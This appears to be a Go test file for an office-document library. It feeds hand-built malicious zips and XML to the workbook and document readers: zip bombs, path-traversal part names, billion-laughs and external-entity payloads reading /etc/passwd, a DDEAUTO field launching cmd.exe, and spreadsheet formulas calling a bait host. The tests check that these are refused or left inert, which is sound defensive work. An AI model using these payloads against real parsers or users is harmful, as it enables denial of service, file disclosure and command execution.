package office

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"strings"
	"testing"

	"legomem/must"
	"legomem/sweep"
	"legomem/tools/toolstest"
)

// entry is one of a zip written by hand, whose directory may say what it likes.
type entry struct {
	name   string
	packed []byte
	method uint16
	flags  uint16
	real   int    // bytes it unpacks to
	sum    uint32 // their checksum
	says   int    // bytes the directory declares; 0 for real
	at     int    // the offset of its local header, where it has none of its own
}

// byHand writes entries as a zip, with nothing put right.
func byHand(entries ...entry) []byte {
	var out, directory bytes.Buffer
	for _, e := range entries {
		at := e.at
		if at == 0 {
			at = out.Len()
			out.Write(zipHeader("PK\x03\x04", e, nil))
			out.WriteString(e.name)
			out.Write(e.packed)
		}
		directory.Write(zipHeader("PK\x01\x02", e, &at))
		directory.WriteString(e.name)
	}
	start := out.Len()
	out.Write(directory.Bytes())
	out.WriteString("PK\x05\x06")
	end := make([]byte, 18)
	binary.LittleEndian.PutUint16(end[4:], uint16(len(entries)))
	binary.LittleEndian.PutUint16(end[6:], uint16(len(entries)))
	binary.LittleEndian.PutUint32(end[8:], uint32(directory.Len()))
	binary.LittleEndian.PutUint32(end[12:], uint32(start))
	out.Write(end)
	return out.Bytes()
}

// zipHeader is a local header, or with an offset one of the directory.
func zipHeader(signature string, e entry, at *int) []byte {
	says := e.says
	if says == 0 {
		says = e.real
	}
	h := []byte(signature)
	word := func(n uint16) { h = binary.LittleEndian.AppendUint16(h, n) }
	long := func(n uint32) { h = binary.LittleEndian.AppendUint32(h, n) }
	if at != nil {
		word(20)
	}
	word(20)
	word(e.flags)
	word(e.method)
	long(0)
	long(e.sum)
	long(uint32(len(e.packed)))
	long(uint32(says))
	word(uint16(len(e.name)))
	word(0)
	if at != nil {
		word(0)
		word(0)
		word(0)
		long(0)
		long(uint32(*at))
	}
	return h
}

func stored(name, body string) entry {
	return entry{name: name, packed: []byte(body), real: len(body), sum: crc32.ChecksumIEEE([]byte(body))}
}

func deflated(tb testing.TB, name, body string) entry {
	tb.Helper()
	var out bytes.Buffer
	w := must.Have(flate.NewWriter(&out, flate.BestCompression))(tb)
	must.Have(w.Write([]byte(body)))(tb)
	must.Do(tb, w.Close())
	return entry{name: name, packed: out.Bytes(), method: zip.Deflate, real: len(body), sum: crc32.ChecksumIEEE([]byte(body))}
}

// badPackages are zips that no reader may take, whatever is in them.
func badPackages(tb testing.TB) []badPackage {
	tb.Helper()
	zeros := strings.Repeat("0", 4<<20)
	bomb := deflated(tb, "xl/media/bomb.bin", zeros)
	kernel := deflated(tb, "a/0", strings.Repeat("0", ratioFree)) // within the ratio's free bytes
	overlapping := []entry{stored("pad", "x"), kernel}
	place := len(byHand(overlapping[:1]...)) - len("PK\x05\x06") - 18 - 46 - len("pad")
	for i := range 200 {
		again := kernel
		again.name, again.at = fmt.Sprintf("a/%d", i+1), place
		overlapping = append(overlapping, again)
	}
	var many []entry
	for i := range maxParts + 1 {
		many = append(many, stored(fmt.Sprint("p/", i), ""))
	}
	large := stored("large", "x")
	large.says = maxPackage + 1
	locked := stored("locked", "x")
	locked.flags = 1
	beyond := stored("beyond", "x")
	beyond.packed = []byte("xyz")
	cut := byHand(beyond)
	binary.LittleEndian.PutUint32(cut[bytes.Index(cut, []byte("PK\x01\x02"))+20:], 1<<20) // its packed size, in the directory
	list := []badPackage{
		{"one entry that unpacks to a thousand times its size", byHand(bomb), ErrTooLarge, "bomb.bin"},
		{"entries that lie over each other", byHand(overlapping...), ErrCorrupt, "over each other"},
		{"too many entries", byHand(many...), ErrTooLarge, "over the cap of 10000"},
		{"a directory of signatures alone", []byte(strings.Repeat("PK\x01\x02", 2*maxParts+1)), ErrTooLarge, "over the cap of 10000"},
		{"an entry that declares more than the cap", byHand(large), ErrTooLarge, "cap on a whole package"},
		{"an encrypted entry", byHand(locked), ErrCorrupt, "without a password"},
		{"an entry beyond the file's end", cut, ErrCorrupt, ""},
		{"two entries of one name", byHand(stored("a.xml", "1"), stored("a.xml", "2")), ErrCorrupt, "two parts"},
		{"two names that differ in case", byHand(stored("a.xml", "1"), stored("A.XML", "2")), ErrCorrupt, "two parts"},
		{"two names that differ in the slash", byHand(stored("a/b.xml", "1"), stored(`a\b.xml`, "2")), ErrCorrupt, "two parts"},
	}
	for _, name := range []string{"../../etc/passwd", `..\..\a`, "a/../../b", "/etc/passwd", `\\server\share`, `C:\a`, "file:a", "a\x00b", "a\nb", "a//b", "./a", "", "..", "/"} {
		list = append(list, badPackage{fmt.Sprintf("a part named %q", name), byHand(stored(name, "x")), ErrRefused, "no name inside a package"})
	}
	return list
}

type badPackage struct {
	name string
	data []byte
	want error
	says string
}

// TestPackagesHold: every reader of a package meets the same wall.
func TestPackagesHold(t *testing.T) {
	for _, tt := range badPackages(t) {
		t.Run(tt.name, func(t *testing.T) {
			if len(tt.data) > 2<<20 {
				t.Errorf("%d bytes: the test is to be of small files", len(tt.data))
			}
			for reader, read := range map[string]func() error{
				"workbook": func() error { _, err := ReadWorkbook(tt.data); return err },
				"document": func() error { _, err := ReadDocument(tt.data); return err },
				"append":   func() error { _, err := AppendParagraphs(tt.data, []string{"x"}); return err },
				"replace":  func() error { _, _, err := ReplaceText(tt.data, "a", "b"); return err },
			} {
				if err := read(); !errors.Is(err, tt.want) || !strings.Contains(err.Error(), tt.says) {
					t.Errorf("%s: got %v, want %v saying %q", reader, err, tt.want, tt.says)
				}
			}
		})
	}
}

// TestDeclaredSizes: what unpacks to another size than declared is damaged,
// and no more than the declared size is ever unpacked.
func TestDeclaredSizes(t *testing.T) {
	types := parts("")["[Content_Types].xml"]
	for _, tt := range []struct {
		name string
		says int
	}{{"less", len(types) - 1}, {"more", len(types) + 1}} {
		t.Run(tt.name, func(t *testing.T) {
			e := deflated(t, "[Content_Types].xml", types)
			e.says = tt.says
			if _, err := ReadWorkbook(byHand(e)); !errors.Is(err, ErrCorrupt) {
				t.Errorf("got %v, want ErrCorrupt", err)
			}
		})
	}
}

// TestWhitePictures: a picture that packs as well as a bomb is none.
func TestWhitePictures(t *testing.T) {
	all := []entry{deflated(t, "word/media/white.bmp", strings.Repeat("\xff", 4<<20))}
	for name, body := range map[string]string{"[Content_Types].xml": contentTypesXML, "word/document.xml": fmt.Sprintf(documentXML, p("x"))} {
		all = append(all, stored(name, body))
	}
	if doc, err := ReadDocument(byHand(all...)); err != nil || doc.Text() != "x" {
		t.Errorf("got %v", err)
	}
}

// TestNestedArchives: an archive in a package is bytes, whatever it would
// unpack to, and an edit carries it along.
func TestNestedArchives(t *testing.T) {
	inner := string(byHand(deflated(t, "bomb", strings.Repeat("0", 4<<20))))
	doc := document(t, p("text"), "word/embeddings/inner.zip", inner)
	if _, err := ReadDocument(doc); err != nil {
		t.Error(err)
	}
	out := must.Have(AppendParagraphs(doc, []string{"more"}))(t)
	if partOf := rawParts(t, out)["word/embeddings/inner.zip"]; partOf != rawParts(t, doc)["word/embeddings/inner.zip"] {
		t.Error("the inner archive changed")
	}
	book := parts(`<sheetData><row><c><v>1</v></c></row></sheetData>`)
	book["xl/embeddings/inner.zip"] = inner
	if _, err := ReadWorkbook(zipped(t, book)); err != nil {
		t.Error(err)
	}
}

// TestWorkbooksHold: parts of a few kilobytes that stand for much, or that XML
// readers have stumbled over.
func TestWorkbooksHold(t *testing.T) {
	sweep.OneGoroutine(t)
	sheet := func(body string) map[string]string { return parts(`<sheetData>` + body + `</sheetData>`) }
	with := func(p map[string]string, name, body string) map[string]string {
		p[name] = body
		return p
	}
	cells := func(n int, cell string) string {
		return strings.Repeat("<row>"+strings.Repeat(cell, 100)+"</row>", n/100)
	}
	long := strings.Repeat("long ", 1<<17/5)
	var lols strings.Builder
	for i := range 10 {
		fmt.Fprintf(&lols, `<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	doctype := func(declarations, use string) map[string]string {
		return with(parts(""), "xl/worksheets/sheet1.xml", `<!DOCTYPE x [`+declarations+`]><worksheet `+mainNS+`><sheetData><row><c t="str"><v>`+use+`</v></c></row></sheetData></worksheet>`)
	}
	var merges strings.Builder
	for range 600 {
		merges.WriteString(`<mergeCell ref="XFD1:XFD1048576"/>`)
	}
	sheets := strings.Repeat(`<sheet name="s" r:id="rId1"/>`, maxSheets+1)
	for _, tt := range []struct {
		name  string
		parts map[string]string
		want  error
		says  string
	}{
		{"billion laughs", doctype(`<!ENTITY l0 "lol">`+lols.String(), "&l10;"), ErrRefused, "document type"},
		{"an external entity", doctype(`<!ENTITY e SYSTEM "file:///etc/passwd">`, "&e;"), ErrRefused, "document type"},
		{"an external document type", with(parts(""), "xl/workbook.xml", `<!DOCTYPE x SYSTEM "http://example.com/x.dtd"><workbook/>`), ErrRefused, "document type"},
		{"an entity of no declaration", sheet(`<row><c t="str"><v>&e;</v></c></row>`), ErrCorrupt, "entity"},
		{"deep nesting", sheet(strings.Repeat("<x>", maxDepth+1)), ErrTooLarge, "deeper"},
		{"deep nesting in a part read at once", with(parts(""), "xl/workbook.xml", strings.Repeat("<x>", maxDepth+1)), ErrTooLarge, "deeper"},
		{"too many attributes", sheet(`<row ` + strings.Repeat(`a="" `, maxAttributes+1) + `/>`), ErrTooLarge, "attributes"},
		{"a tag without end", sheet(`<row a="` + strings.Repeat(`>`, maxTag) + `"/>`), ErrTooLarge, "a tag of more"},
		{"a shared string a million times", with(sheet(cells(1000, `<c t="s"><v>0</v></c>`)), "xl/sharedStrings.xml", `<sst><si><t>`+long+`</t></si></sst>`), ErrTooLarge, "bytes of text"},
		{"a shared formula a million times", sheet(`<row><c><f t="shared" si="0" ref="A1:A9">"` + long + `"&amp;A1</f></c></row>` + cells(1000, `<c><f t="shared" si="0"/></c>`)), ErrTooLarge, "bytes of text"},
		{"a link's text a million times", with(parts(`<sheetData/><hyperlinks><hyperlink ref="A1:Z1000" location="`+long+`"/></hyperlinks>`), "xl/x.xml", ""), ErrTooLarge, "bytes of text"},
		{"merged ranges over many cells", parts(`<sheetData>` + cells(20_000, "<c/>") + `</sheetData><mergeCells>` + merges.String() + `</mergeCells>`), ErrTooLarge, "steps"},
		{"links among many merged ranges", parts(`<sheetData/><mergeCells>` + strings.Repeat(`<mergeCell ref="A1:B1"/>`, 30_000) + `</mergeCells><hyperlinks><hyperlink ref="A2:Z99" location="x"/></hyperlinks>`), ErrTooLarge, "steps"},
		{"too many sheets", with(parts(""), "xl/workbook.xml", `<workbook `+mainNS+`><sheets>`+sheets+`</sheets></workbook>`), ErrTooLarge, "sheets"},
		{"too many styles", with(parts(""), "xl/styles.xml", `<styleSheet><cellXfs>`+strings.Repeat(`<xf/>`, maxStyles+1)+`</cellXfs></styleSheet>`), ErrTooLarge, "cell formats"},
		{"a cell beyond the grid", sheet(`<row><c r="XFE1"><v>1</v></c></row>`), ErrCorrupt, "XFE1"},
		{"a row beyond the grid", sheet(`<row r="99999999999999999999"/>`), ErrCorrupt, "row number"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ReadWorkbook(storedAll(tt.parts))
			if !errors.Is(err, tt.want) || !strings.Contains(err.Error(), tt.says) {
				t.Errorf("got %v, want %v saying %q", err, tt.want, tt.says)
			}
		})
	}
}

// storedAll zips parts without packing them, which is all the same to a
// reader, and quicker to write than a large part is to pack.
func storedAll(parts map[string]string) []byte {
	var all []entry
	for name, body := range parts {
		all = append(all, stored(name, body))
	}
	return byHand(all...)
}

// TestHugeDimensions: a sheet that claims the whole grid costs what its cells
// cost.
func TestHugeDimensions(t *testing.T) {
	w := must.Have(ReadWorkbook(zipped(t, parts(`<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" style="1"/></cols>`+
		`<sheetData><row r="1" spans="1:16384"><c r="A1"><v>1</v></c></row><row r="1048576"/></sheetData>`+
		`<mergeCells count="1000000000"><mergeCell ref="B1:XFD1048576"/></mergeCells>`))))(t)
	s := w.Sheets[0]
	n := 0
	for row, col := range s.Places() {
		if n++; row != 1 || col != 1 {
			t.Errorf("a cell at %d, %d", row, col)
		}
	}
	if n != 1 || s.Rows != maxRow || s.Columns != maxColumn || w.Spread() != 1 {
		t.Errorf("%d cells, %d x %d, spread %d", n, s.Rows, s.Columns, w.Spread())
	}
}

// TestDocumentsHold: bodies of a few kilobytes that stand for much.
func TestDocumentsHold(t *testing.T) {
	nested := func(n int, open, inner, closing string) string {
		return strings.Repeat(open, n) + inner + strings.Repeat(closing, n)
	}
	table := nested(100, "<w:tbl><w:tr><w:tc>", p("x"), "</w:tc></w:tr></w:tbl>")
	for _, tt := range []struct {
		name string
		data []byte
		want error
		says string
	}{
		{"a document type", storedAll(map[string]string{"[Content_Types].xml": contentTypesXML, "word/document.xml": `<!DOCTYPE w [<!ENTITY a "b">]><w/>`}), ErrRefused, "document type"},
		{"tables in tables without end", document(t, nested(maxDepth, "<w:tbl><w:tr><w:tc>", "", "</w:tc></w:tr></w:tbl>")), ErrTooLarge, "deeper"},
		{"tables in tables", document(t, table+table), nil, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			for name, edit := range edits() {
				_, err := edit(tt.data)
				if tt.want == nil && err != nil || tt.want != nil && !errors.Is(err, tt.want) {
					t.Errorf("%s: got %v, want %v", name, err, tt.want)
				}
			}
			_, err := ReadDocument(tt.data)
			if tt.want == nil && err != nil || tt.want != nil && (!errors.Is(err, tt.want) || !strings.Contains(err.Error(), tt.says)) {
				t.Errorf("got %v, want %v saying %q", err, tt.want, tt.says)
			}
		})
	}
}

// TestBlocksHold: paragraphs, rows and cells count, wherever they are.
func TestBlocksHold(t *testing.T) {
	body := []byte(`<w:document xmlns:w="` + wordNS + `"><w:body><w:p/><w:x><w:p/></w:x><w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl></w:body></w:document>`)
	for blocks, want := range map[int]error{5: nil, 4: ErrTooLarge} {
		if _, err := newDocumentReader(body, blocks).document(); !errors.Is(err, want) {
			t.Errorf("with a cap of %d: %v, want %v", blocks, err, want)
		}
	}
}

// TestReplaceHolds: a short text that stands often, replaced by a long one,
// and one that is cut to pieces by comments.
func TestReplaceHolds(t *testing.T) {
	sweep.OneGoroutine(t)
	_, _, err := ReplaceText(document(t, p(strings.Repeat("a", 40_000))), "a", strings.Repeat("b", 1000))
	if !errors.Is(err, ErrTooLarge) {
		t.Errorf("40,000 times 1,000 bytes: %v, want ErrTooLarge", err)
	}
	_, _, err = ReplaceText(document(t, p(strings.Repeat("a", 8_000))), "a", strings.Repeat("&", 1000))
	if !errors.Is(err, ErrTooLarge) {
		t.Errorf("what XML writes longer: %v, want ErrTooLarge", err)
	}
	out, n, err := ReplaceText(document(t, p(strings.Repeat("a<!---->", 50_000)+"b")), "ab", "c")
	if err != nil || n != 1 {
		t.Fatalf("%d replaced, %v", n, err)
	}
	doc, err := ReadDocument(out)
	if err != nil || doc.Text() != strings.Repeat("a", 49_999)+"c" {
		t.Errorf("%d bytes of text, %v", len(doc.Text()), err)
	}
}

// TestOutsideIsNeverAsked: relationships and formulas that point outside are
// kept, and nobody calls there.
func TestOutsideIsNeverAsked(t *testing.T) {
	host := toolstest.Bait(t)
	url := "http://" + host
	rels := `<Relationships ` + relNS + `>`
	for i, target := range []string{url + "/template.dotm", `file:///etc/passwd`, `\\` + host + `\share\x.docx`, `../../../../etc/passwd`} {
		rels += fmt.Sprintf(`<Relationship Id="rId%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="%s" TargetMode="External"/>`, i+9, target)
	}
	rels += `</Relationships>`
	field := `<w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"</w:instrText></w:r><w:r><w:t>shown</w:t></w:r></w:p>`
	doc := document(t, field, "word/_rels/document.xml.rels", rels, "word/_rels/settings.xml.rels", rels, "customXml/item1.xml", `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="`+url+`/x"/></x>`)
	read, err := ReadDocument(doc)
	if err != nil || read.Text() != "shown" {
		t.Errorf("read %q, %v", read.Text(), err)
	}
	for name, edit := range edits() {
		out, err := edit(doc)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, part := range []string{"word/_rels/document.xml.rels", "word/_rels/settings.xml.rels"} {
			if partOf(t, out, part) != rels {
				t.Errorf("%s: %s changed", name, part)
			}
		}
	}
	book := parts(`<sheetData><row><c><f>WEBSERVICE("` + url + `")</f></c><c><f>cmd|'/c calc'!A0</f></c><c><f>[1]Sheet1!A1</f></c></row></sheetData><hyperlinks><hyperlink ref="A2" r:id="rId9"/></hyperlinks>`)
	book["xl/worksheets/_rels/sheet1.xml.rels"] = rels
	book["xl/_rels/workbook.xml.rels"] = strings.Replace(book["xl/_rels/workbook.xml.rels"], "</Relationships>",
		`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="`+url+`/sheet.xml" TargetMode="External"/></Relationships>`, 1)
	book["xl/workbook.xml"] = strings.Replace(book["xl/workbook.xml"], "</sheets>", `<sheet name="Two" sheetId="2" r:id="rId2"/></sheets>`, 1)
	w := must.Have(ReadWorkbook(zipped(t, book)))(t)
	want := []string{`=WEBSERVICE("` + url + `")`, `=cmd|'/c calc'!A0`, `=[1]Sheet1!A1`}
	for i, text := range want {
		if c := w.Sheets[0].Cell(1, i+1); c.Kind != FormulaCell || c.Text != text || c.Cached != nil {
			t.Errorf("cell %d is %+v, want the formula %s", i+1, c, text)
		}
	}
	if names := w.Names(); len(names) != 1 {
		t.Errorf("sheets %v: one was taken from outside", names)
	}
}

func TestPartName(t *testing.T) {
	for name, want := range map[string]string{
		"xl/workbook.xml": "xl/workbook.xml", `xl\workbook.xml`: "xl/workbook.xml", "[Content_Types].xml": "[content_types].xml", "xl/": "xl/", "a..b": "a..b", "Ä b.xml": "ä b.xml",
	} {
		if got, err := partName(name); err != nil || got != want {
			t.Errorf("%q is %q, %v; want %q", name, got, err, want)
		}
	}
}

// marked says that an error is of one of the kinds that say what a file is.
func marked(err error) bool {
	return errors.Is(err, ErrCorrupt) || errors.Is(err, ErrTooLarge) || errors.Is(err, ErrRefused)
}
